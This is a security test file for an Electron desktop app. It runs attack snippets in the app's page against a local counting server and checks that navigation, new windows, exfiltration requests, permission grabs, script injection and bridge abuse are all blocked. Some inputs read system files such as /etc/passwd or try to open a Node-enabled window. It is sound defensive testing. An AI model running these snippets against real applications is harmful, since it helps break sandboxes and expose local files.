import dgram from 'node:dgram';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { findOperation, operationNames } from '#shared/contract/contract.ts';
import { callContract } from '../drivers/call-contract.ts';
import { type ElectronDriver, startElectronApp } from '../drivers/electron-driver.ts';

/**
 * What code that got into the page could try. A server and a UDP socket of this machine stand for « elsewhere » and count what
 * reaches them; none of it may, and the app must still be there afterwards.
 */
let app: ElectronDriver;
let elsewhere: http.Server;
let datagrams: dgram.Socket;
let port: number;
let udpPort: number;
const reached: string[] = [];

beforeAll(async () => {
  elsewhere = http.createServer((request, response) => {
    reached.push(request.url ?? '');
    response
      .writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' })
      .end('<script>document.title="elsewhere"</script>');
  });
  elsewhere.on('connection', () => reached.push('connection'));
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  port = (elsewhere.address() as AddressInfo).port;
  datagrams = dgram.createSocket('udp4').on('message', () => reached.push('datagram'));
  await new Promise<void>((resolve) => datagrams.bind(0, '127.0.0.1', resolve));
  udpPort = datagrams.address().port;
  app = await startElectronApp();
});
afterAll(async () => {
  await app.close();
  elsewhere.close();
  datagrams.close();
});

/** Long enough for a request of this machine to arrive. */
const aMoment = () => app.page.waitForTimeout(250);

/** What an attack led to, a moment later. */
async function consequences() {
  await aMoment();
  return {
    reached: reached.splice(0),
    windows: app.pages().length,
    stillOurs: app.page.url().startsWith('app://cellule/') && (await app.page.locator('#root').count()) === 1,
    framesElsewhere: app.page.frames().filter((frame) => /^https?:|^file:|^chrome:/.test(frame.url())).length,
  };
}

const none = { reached: [], windows: 1, stillOurs: true, framesElsewhere: 0 };

/** Where an attack tries to go: `127.0.0.1:<port>` of the counting server and of the counting socket. */
interface Elsewhere {
  readonly tcp: string;
  readonly udp: string;
}

/** Runs an attack in the page. That it throws there is fine; what counts is that nothing is reached and the app stays. */
async function attack(code: (elsewhere: Elsewhere) => unknown): Promise<unknown> {
  const limit = new Promise((resolve) => setTimeout(resolve, 3_000, 'no answer'));
  const tried = app.page.evaluate(code, { tcp: `127.0.0.1:${port}`, udp: `127.0.0.1:${udpPort}` }).catch(() => 'threw');
  return Promise.race([tried, limit]);
}

test('the counters count: what does reach « elsewhere » is seen', async () => {
  await fetch(`http://127.0.0.1:${port}/seen`);
  await new Promise((resolve) => dgram.createSocket('udp4').unref().send('x', udpPort, '127.0.0.1', resolve));
  await aMoment();
  expect(reached.splice(0).toSorted()).toEqual(['/seen', 'connection', 'datagram']);
});

type Attack = readonly [name: string, code: (elsewhere: Elsewhere) => unknown];

const navigations: readonly Attack[] = [
  ['an address of the web', ({ tcp }) => location.assign(`http://${tcp}/`)],
  ['an address of the web, replacing the page', ({ tcp }) => location.replace(`http://${tcp}/`)],
  ['a file of this machine', () => location.assign('file:///etc/passwd')],
  ['a page of the browser engine', () => location.assign('chrome://version')],
  ['the source of a page', () => location.assign('view-source:app://cellule/')],
  ['a page made of text', () => location.assign('data:text/html,<script>document.title="data"</script>')],
  ['a script as an address', () => location.assign('javascript:document.body.remove()')],
  ['a blob', () => location.assign(URL.createObjectURL(new Blob(['<p>'], { type: 'text/html' })))],
  ['another host of our own scheme', () => location.assign('app://elsewhere/')],
  ['a host that only begins like ours', () => location.assign('app://cellule.elsewhere/')],
  ['a program of the system', () => location.assign('mailto:someone@example.org')],
  [
    'a link that is clicked',
    ({ tcp }) => {
      const link = Object.assign(document.createElement('a'), { href: `http://${tcp}/` });
      document.body.append(link);
      link.click();
      link.remove();
    },
  ],
  [
    'a form that is sent',
    ({ tcp }) => {
      const form = Object.assign(document.createElement('form'), { action: `http://${tcp}/`, method: 'post' });
      document.body.append(form);
      form.submit();
      form.remove();
    },
  ],
  [
    'a refresh',
    ({ tcp }) => {
      const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=http://${tcp}/` });
      document.head.append(meta);
    },
  ],
];

describe('the window goes nowhere', () => {
  test.each(navigations)('%s', async (_name, code) => {
    await attack(code);
    expect(await consequences()).toEqual(none);
  });
});

const windows: readonly Attack[] = [
  ['an address of the web', ({ tcp }) => window.open(`http://${tcp}/`)],
  ['an empty window', () => window.open('about:blank')],
  ['our own page once more', () => window.open('app://cellule/')],
  ['a window with Node in it', () => window.open('app://cellule/', '', 'nodeIntegration=yes,contextIsolation=no')],
];

describe('no second window opens', () => {
  test.each(windows)('%s', async (_name, code) => {
    const opened = await attack(code);
    expect([null, 'threw']).toContain(opened);
    expect(await consequences()).toEqual(none);
  });

  test('a link to a new window', async () => {
    await attack(({ tcp }) => {
      const link = Object.assign(document.createElement('a'), { href: `http://${tcp}/`, target: '_blank' });
      document.body.append(link);
      link.click();
      link.remove();
    });
    expect(await consequences()).toEqual(none);
  });

  test.each(['iframe', 'webview', 'object', 'embed'])('nothing is embedded by <%s>', async (tag) => {
    await app.page.evaluate(
      ([name, address]) => {
        const element = document.createElement(name);
        element.setAttribute(name === 'object' ? 'data' : 'src', address);
        document.body.append(element);
      },
      [tag, `http://127.0.0.1:${port}/`] as const,
    );
    expect(await consequences()).toEqual(none);
    await app.page.evaluate((name) => document.querySelector(name)?.remove(), tag);
  });
});

const requests: readonly Attack[] = [
  ['fetch', ({ tcp }) => fetch(`http://${tcp}/`)],
  ['fetch without reading', ({ tcp }) => fetch(`http://${tcp}/`, { mode: 'no-cors' })],
  ['a file of this machine', () => fetch('file:///etc/passwd')],
  [
    'XMLHttpRequest',
    ({ tcp }) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.addEventListener('loadend', resolve);
        request.open('GET', `http://${tcp}/`);
        request.send();
      }),
  ],
  ['a beacon', ({ tcp }) => navigator.sendBeacon(`http://${tcp}/`, 'x')],
  ['a web socket', ({ tcp }) => void new WebSocket(`ws://${tcp}/`)],
  ['server events', ({ tcp }) => void new EventSource(`http://${tcp}/`)],
  [
    'a picture',
    ({ tcp }) => {
      new Image().src = `http://${tcp}/x.png`;
    },
  ],
  [
    'a script',
    ({ tcp }) => {
      document.head.append(Object.assign(document.createElement('script'), { src: `http://${tcp}/x.js` }));
    },
  ],
  ['a module', ({ tcp }) => import(/* @vite-ignore */ `http://${tcp}/x.js`)],
  [
    'a style sheet',
    ({ tcp }) => {
      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `http://${tcp}/x.css` }));
    },
  ],
  ['a font', ({ tcp }) => new FontFace('x', `url(http://${tcp}/x.woff2)`).load()],
  [
    'a prefetch',
    ({ tcp }) => {
      for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender']) {
        document.head.append(Object.assign(document.createElement('link'), { rel, href: `http://${tcp}/${rel}`, as: 'script' }));
      }
    },
  ],
  [
    'a ping of a link',
    ({ tcp }) => {
      const link = Object.assign(document.createElement('a'), { href: '#', ping: `http://${tcp}/` });
      document.body.append(link);
      link.click();
      link.remove();
      history.replaceState(null, '', '/');
    },
  ],
  ['a worker', ({ tcp }) => void new Worker(URL.createObjectURL(new Blob([`fetch('http://${tcp}/')`], { type: 'text/javascript' })))],
  ['a service worker', () => navigator.serviceWorker.register('/assets/x.js')],
  [
    'a call to a relay over UDP or TCP',
    async ({ tcp, udp }) => {
      const connection = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:${udp}` },
          { urls: [`turn:${udp}?transport=udp`, `turn:${tcp}?transport=tcp`], username: 'x', credential: 'x' },
        ],
      });
      connection.createDataChannel('x');
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 1_500));
      connection.close();
    },
  ],
];

describe('no request leaves', () => {
  test.each(requests)('%s', async (_name, code) => {
    await attack(code);
    expect(await consequences()).toEqual(none);
  });
});

const permissions: readonly Attack[] = [
  ['the camera', () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'granted')],
  ['the microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'granted')],
  ['the screen', () => navigator.mediaDevices.getDisplayMedia().then(() => 'granted')],
  ['notifications', () => Notification.requestPermission()],
  [
    'the place',
    () =>
      new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve('granted'),
          () => resolve('denied'),
        ),
      ),
  ],
  ['reading the clipboard', () => navigator.clipboard.readText().then(() => 'granted')],
  ['a folder', () => (window as unknown as { showDirectoryPicker(): Promise<void> }).showDirectoryPicker().then(() => 'granted')],
  ['keys of the keyboard', () => document.body.requestPointerLock() ?? (document.pointerLockElement ? 'granted' : 'denied')],
  [
    'an USB device',
    () =>
      (navigator as unknown as { usb: { requestDevice(options: object): Promise<void> } }).usb
        .requestDevice({ filters: [] })
        .then(() => 'granted'),
  ],
];

describe('no permission is given', () => {
  test.each(permissions)('%s', async (_name, code) => {
    expect(await attack(code)).not.toBe('granted');
  });

  test('what is asked about says denied', async () => {
    const states = await app.page.evaluate(async () =>
      Promise.all(
        ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'persistent-storage', 'midi'].map(
          async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state,
        ),
      ),
    );
    expect(new Set(states)).toEqual(new Set(['denied']));
  });
});

describe('no text becomes code', () => {
  test.each<Attack>([
    [
      'an inline script',
      () => {
        const script = document.createElement('script');
        script.textContent = 'document.documentElement.dataset.attacked = "yes"';
        document.head.append(script);
      },
    ],
    [
      'a handler in the markup',
      () => {
        const holder = document.createElement('div');
        holder.innerHTML = '<img src="app://cellule/missing.png" onerror="document.documentElement.dataset.attacked = \'yes\'">';
        document.body.append(holder);
      },
    ],
    ['a string that is a timer', () => void setTimeout('document.documentElement.dataset.attacked = "yes"' as unknown as () => void, 0)],
    [
      'a script of a blob',
      () => {
        const code = new Blob(['document.documentElement.dataset.attacked = "yes"'], { type: 'text/javascript' });
        document.head.append(Object.assign(document.createElement('script'), { src: URL.createObjectURL(code) }));
      },
    ],
  ])('%s', async (_name, code) => {
    await attack(code);
    await aMoment();
    expect(await app.page.evaluate(() => document.documentElement.dataset['attacked'])).toBeUndefined();
  });
});

describe('the bridge', () => {
  test.each([
    ['an operation that does not exist', 'vault.export', {}, 'forbidden'],
    ['a name of every object', '__proto__', {}, 'forbidden'],
    ['a name that is no text', { name: 'vault.lock' }, {}, 'forbidden'],
    ['an input of ten megabytes', 'vault.open', { text: 'x'.repeat(10_000_000) }, 'invalid_input'],
    ['a wrong input of the shell', 'shell.savePreferences', { theme: 'pink' }, 'invalid_input'],
    ['the vault while it is locked', 'referrals.list', {}, 'vault_locked'],
  ])('%s is answered with a code and nothing else', async (_name, name, input, code) => {
    const answer = await callContract(app.page, name, input);
    expect(answer).toMatchObject({ ok: false, error: { code } });
  });

  test('while the vault is locked, not one operation on its content answers', async () => {
    const content = operationNames.filter((name) => ['read', 'write'].includes(findOperation(name)?.access ?? ''));
    expect(content.length).toBeGreaterThan(100);
    const answered: string[] = [];
    for (const name of content) {
      const answer = await callContract(app.page, name, {});
      if (answer.ok || !['vault_locked', 'forbidden'].includes(answer.error.code)) answered.push(name);
    }
    expect(answered).toEqual([]);
  });

  test('a frame inside the page has no bridge of its own', async () => {
    const seen = await app.page.evaluate(() => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const inside = frame.contentWindow as unknown as { cellule?: unknown; require?: unknown } | null;
      const found = { bridge: typeof inside?.cellule, node: typeof inside?.require };
      frame.remove();
      return found;
    });
    expect(seen).toEqual({ bridge: 'undefined', node: 'undefined' });
  });

  test('the page cannot replace it', async () => {
    const same = await app.page.evaluate(() => {
      const before = (window as unknown as { cellule: { call: unknown } }).cellule;
      const { call } = before;
      try {
        before.call = () => 'attacked';
      } catch {
        // Frozen, as it should be.
      }
      return before.call === call;
    });
    expect(same).toBe(true);
  });
});

describe('nothing of a page stays on the disk', () => {
  test('a download is not written', async () => {
    await attack(() => {
      const link = Object.assign(document.createElement('a'), {
        href: URL.createObjectURL(new Blob(['planted-download'])),
        download: 'planted.txt',
      });
      link.click();
    });
    await aMoment();
    expect(filesBelow(app.home).filter((file) => file.includes('planted'))).toEqual([]);
  });

  test('what a page stores is in memory only', async () => {
    await attack(async () => {
      localStorage.setItem('planted', 'planted-in-storage');
      sessionStorage.setItem('planted', 'planted-in-storage');
      document.cookie = 'planted=planted-in-storage; max-age=10000';
      await new Promise((resolve) => {
        const request = indexedDB.open('planted', 1);
        request.addEventListener('upgradeneeded', () => request.result.createObjectStore('planted-in-storage'));
        request.addEventListener('success', resolve);
        request.addEventListener('error', resolve);
      });
    });
    await app.page.waitForTimeout(1_000);
    const needles = [Buffer.from('planted-in-storage'), Buffer.from('planted-in-storage', 'utf16le')];
    const holding = filesBelow(app.userData).filter((file) => needles.some((needle) => fs.readFileSync(file).includes(needle)));
    expect(holding).toEqual([]);
  });
});

function filesBelow(folder: string): string[] {
  return fs
    .readdirSync(folder, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile())
    .map((entry) => path.join(entry.parentPath, entry.name));
}
